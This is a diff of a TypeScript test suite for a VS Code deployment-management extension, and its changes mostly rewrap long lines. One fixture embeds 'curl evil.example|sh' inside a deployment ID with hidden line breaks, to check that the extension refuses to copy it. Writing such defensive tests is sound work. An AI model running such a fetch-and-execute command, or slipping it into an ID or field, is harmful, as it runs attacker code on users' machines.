@@ -78,7 +78,8 @@ describe('the command', () => {
       graph.row('dep\u202E4'),
     ];
     await vscode.env.clipboard.writeText('before');
-    const reason = 'because it contains line breaks or invisible characters. Copy such an ID from the dashboard.';
+    const reason =
+      'because it contains line breaks or invisible characters. Copy such an ID from the dashboard.';
     await assert.rejects(run('copyId', rows[1], [rows[1]]), {
       message: `“acc␊curl evil.example|sh␊” was not copied, ${reason}`,
     });
@@ -103,20 +104,31 @@ describe('the command', () => {
       'checkConnection',
       'revealDeployment',
     ] as const) {
-      await assert.rejects(signedOut.run(command, 'dep_1'), /^UserError: You are not signed in\./, command);
+      await assert.rejects(
+        signedOut.run(command, 'dep_1'),
+        /^UserError: You are not signed in\./,
+        command,
+      );
     }
     await list([]);
     await settle();
     await assert.rejects(run('refresh'), /^UserError: The list of deployments is empty\./);
     graph.ignore({ deployments: { count: 8, files: ['.vscode/settings.json'] } });
-    await assert.rejects(run('refresh'), /^UserError: 8 deployments in \.vscode\/settings\.json are ignored, because /);
+    await assert.rejects(
+      run('refresh'),
+      /^UserError: 8 deployments in \.vscode\/settings\.json are ignored, because /,
+    );
     assert.deepEqual(asked(), []);
   });
 
   describe('Add Deployment', () => {
     it('writes, reads and shows what was confirmed, opens the row of what is wrong, and lists nothing twice', async () => {
       await list([]);
-      await answering(() => run('addDeployment', { id: ' dep_2 ', label: 'Billing' }), enter, enter);
+      await answering(
+        () => run('addDeployment', { id: ' dep_2 ', label: 'Billing' }),
+        enter,
+        enter,
+      );
       assert.equal(get('dep_2')?.state, 'failed');
       platform.putDeployment('dep 1', healthy());
       await answering(() => run('addDeployment', { id: 'dep 1' }), enter, enter);
@@ -140,7 +152,10 @@ describe('the command', () => {
       let writes = 0;
       const watch = vscode.workspace.onDidChangeConfiguration(() => writes++);
       const text = 'dep_1, dep_2 "dep 3" https://dash.example/deployments/dep_4?tab=1';
-      const { statusMessages } = await recording(() => run('addDeployment', { label: 'left out' }), text);
+      const { statusMessages } = await recording(
+        () => run('addDeployment', { label: 'left out' }),
+        text,
+      );
       watch.dispose();
       assert.deepEqual([settingIn(section), writes], [['dep_2', 'dep_1', 'dep 3', 'dep_4'], 1]);
       assert.deepEqual(new Set(asked()), new Set(['dep_1', 'dep 3', 'dep_4']));
@@ -178,7 +193,9 @@ describe('the command', () => {
       await list(['dep_1']);
       await vscode.env.clipboard.writeText('12345 dep_1');
       const said = await notificationsOf(() => run('addDeploymentsFromText'));
-      assert.deepEqual(said, [['information', 'No new IDs like those in the list.', 'Show All Words']]);
+      assert.deepEqual(said, [
+        ['information', 'No new IDs like those in the list.', 'Show All Words'],
+      ]);
     });
 
     it('offers the IDs that begin like a listed one alone, and its other words behind Show All Words', async () => {
@@ -199,7 +216,11 @@ describe('the command', () => {
       await vscode.env.clipboard.writeText(`dep_1 ${token} Bearer x${' '.repeat(300_000)}dep_2`);
       const { picks, placeholders, titles } = recordWindow();
       await run('addDeploymentsFromText');
-      const offered = [...titles, ...placeholders, ...picks.map(({ label, picked }) => [label, picked])];
+      const offered = [
+        ...titles,
+        ...placeholders,
+        ...picks.map(({ label, picked }) => [label, picked]),
+      ];
       const partly = 'Only the first 300,000 characters were searched.';
       assert.deepEqual(offered, [
         'Add Deployments from Clipboard · .vscode/settings.json · environment (from environment variables)',
@@ -209,14 +230,17 @@ describe('the command', () => {
       ]);
       await vscode.env.clipboard.writeText(`${' '.repeat(300_000)}dep_2`);
       const said = await notificationsOf(() => run('addDeploymentsFromText'));
-      assert.deepEqual(said, [['information', `No new deployment IDs found. ${partly}`, 'Add Deployment...']]);
+      assert.deepEqual(said, [
+        ['information', `No new deployment IDs found. ${partly}`, 'Add Deployment...'],
+      ]);
     });
   });
 
   it('Open in Dashboard asks once for an organization and a site, and refuses what leads elsewhere', async () => {
     await graph.read('a/b', DEFAULT_TOKEN);
     const opened: unknown[] = [];
-    const executeCommand = async (id: string, url: unknown) => void (id === 'vscode.open' && opened.push(url));
+    const executeCommand = async (id: string, url: unknown) =>
+      void (id === 'vscode.open' && opened.push(url));
     replace(vscode.commands, { executeCommand });
     await setDashboard('https://dash.example/{deploymentId}');
     const question = 'Open dash.example for environment (from environment variables)?';
@@ -229,7 +253,8 @@ describe('the command', () => {
     await assert.rejects(open(), /in its host\./);
     // The window of a server may lead loopback hosts elsewhere; that of a desktop leaves them alone.
     await setDashboard('http://localhost/{deploymentId}');
-    if (vscode.env.remoteName !== undefined) await assert.rejects(open(), /A remote window may change this ID/);
+    if (vscode.env.remoteName !== undefined)
+      await assert.rejects(open(), /A remote window may change this ID/);
     assert.deepEqual(opened, Array(2).fill('https://dash.example/a%2Fb'));
     assert.doesNotMatch(JSON.stringify([...graph.context.globalState.values]), /dash\.example/);
   });
@@ -238,7 +263,10 @@ describe('the command', () => {
     await list(['dep_1', 'dep_2']);
     await graph.services.store.refresh();
     const selection = [row('dep_1'), accountOf('dep_2')];
-    const said = await notificationsOf(() => run('removeDeployment', row('dep_1'), selection), 'Undo');
+    const said = await notificationsOf(
+      () => run('removeDeployment', row('dep_1'), selection),
+      'Undo',
+    );
     await until('what was read', () => get('dep_1')?.state === 'satisfied');
     assert.deepEqual(settingIn(section), ['dep_1', 'dep_2']);
     const removeBoth = () => run('removeDeployment', row('dep_1'), [row('dep_1'), row('dep_2')]);
@@ -323,7 +351,8 @@ describe('the command', () => {
   it('Refresh Deployment says what is still wrong where no row shows it', async () => {
     await graph.read('dep_1', 'dep_2');
     const said = await notificationsOf(async () => {
-      for (const argument of ['dep_1', 'dep_2', row('dep_2')]) await run('refreshDeployment', argument);
+      for (const argument of ['dep_1', 'dep_2', row('dep_2')])
+        await run('refreshDeployment', argument);
     });
     assert.match(said.shift()!.join(), /^information,dep_2: Ops Slack .* failed: .*,Copy Request$/);
     assert.deepEqual(said, []);
@@ -353,7 +382,10 @@ describe('the command', () => {
     it('reveal any ID, and say that one is not listed', async () => {
       graph.services.store.setListed([{ id: 'half \ud800' }]);
       await run('revealDeployment', 'half \ud800');
-      await assert.rejects(run('revealDeployment', 'dep_9'), /^UserError: “dep_9” is not in the list\./);
+      await assert.rejects(
+        run('revealDeployment', 'dep_9'),
+        /^UserError: “dep_9” is not in the list\./,
+      );
       await run('revealDeployment', { id: 'half \ud800' });
       assert.deepEqual(revealed(), ['half \ud800']);
     });
@@ -367,7 +399,10 @@ describe('the command', () => {
     assert.equal(await vscode.env.clipboard.readText(), 'dep_1\ndep_2');
     assert.equal(await copied(answering(() => run('copyId'), [0, 1])), 'dep_2\ndep_1');
     for (const command of ['copyId', 'findInFiles'] as const) {
-      await assert.rejects(run(command, { kind: 'cause', id: 'cause' }), /^UserError: The platform sent no ID/);
+      await assert.rejects(
+        run(command, { kind: 'cause', id: 'cause' }),
+        /^UserError: The platform sent no ID/,
+      );
     }
     const one = await copied(run('copyReport', row('dep_1')));
     assert.ok(one.includes('dep_1') && !one.includes('dep_2'), one);
@@ -375,13 +410,16 @@ describe('the command', () => {
     assert.ok(two.includes('dep_1') && two.includes('dep_2'), two);
     await vscode.env.clipboard.writeText('');
     assert.equal(await copied(answering(() => run('copyReport'), enter)), two);
-    for (const secret of [DEFAULT_TOKEN, platform.baseUrl, 'environment']) assert.ok(!two.includes(secret));
+    for (const secret of [DEFAULT_TOKEN, platform.baseUrl, 'environment'])
+      assert.ok(!two.includes(secret));
   });
 
   it('Copy Report in the view’s title asks which deployments, whatever row has the focus', async () => {
     await graph.read('dep_1', 'dep_2');
     const focused = row('dep_1');
-    const report = await copied(answering(() => run('copyReportFromTitle', focused, [focused]), enter));
+    const report = await copied(
+      answering(() => run('copyReportFromTitle', focused, [focused]), enter),
+    );
     assert.ok(report.includes('dep_1') && report.includes('dep_2'), report);
   });
 
@@ -401,7 +439,9 @@ describe('the command', () => {
 
   it('Forget Install moves the focus to the next row, after the last one to the one before', async () => {
     const { installs } = graph.services;
-    const [, second, third] = ['a', 'b', 'c'].map((one) => installs.add(one, 'org', answerOf(install())));
+    const [, second, third] = ['a', 'b', 'c'].map((one) =>
+      installs.add(one, 'org', answerOf(install())),
+    );
     await run('forgetInstall', second);
     assert.deepEqual(graph.installs.focused, [third]);
     await run('forgetInstall', third);
@@ -418,7 +458,9 @@ describe('the command', () => {
       platform.fault('all', faults.hold());
       const found = answering(() => run('lookUpInstall', token), enter);
       await platform.waitForRequests(1, { state: 'held' });
-      await vscode.window.showTextDocument(await vscode.workspace.openTextDocument({ content: '' }));
+      await vscode.window.showTextDocument(
+        await vscode.workspace.openTextDocument({ content: '' }),
+      );
       const typed = new Promise((resolve) => {
         const listener = vscode.window.onDidChangeTextEditorSelection((change) => {
           listener.dispose();
@@ -429,16 +471,25 @@ describe('the command', () => {
       await typed;
       platform.release();
       await found;
-      assert.deepEqual([graph.installs.revealed, graph.installs.focused], [graph.services.installs.installs, []]);
+      assert.deepEqual(
+        [graph.installs.revealed, graph.installs.focused],
+        [graph.services.installs.installs, []],
+      );
     });
 
     it('logs what the platform says against it, without the tokens, and has a button for the log', async () => {
       await signIn();
-      platform.fault('all', faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`));
+      platform.fault(
+        'all',
+        faults.text(409, `${token} is locked.\nAsk the owner of ${DEFAULT_TOKEN}.`),
+      );
       const refused: unknown = await answering(() => run('lookUpInstall', token), enter).catch(
         (error: unknown) => error,
       );
-      assert.ok(refused instanceof UserError && refused.actions.some(({ command }) => command === commandIds.showLog));
+      assert.ok(
+        refused instanceof UserError &&
+          refused.actions.some(({ command }) => command === commandIds.showLog),
+      );
       const said = 'Response: “[redacted] is locked. Ask the owner of [redacted].”';
       const logged = `Lookup of an install in organization "Acme" failed (409 clientError). ${said}`;
       assert.ok(graph.lines.includes(logged), graph.lines.join('\n'));
@@ -465,7 +516,11 @@ describe('the command', () => {
       await assert.rejects(run('signOut'), /AUTOMATION_PLATFORM_TOKEN/);
       await signIn();
       const { picks, messages } = await recording(() => run('signOut'));
-      assert.deepEqual([picks.map(({ label }) => label), messages], [['Acme'], []], 'the other one could be meant');
+      assert.deepEqual(
+        [picks.map(({ label }) => label), messages],
+        [['Acme'], []],
+        'the other one could be meant',
+      );
     });
 
     it('Set User Session Token removes it after an empty answer only', async () => {
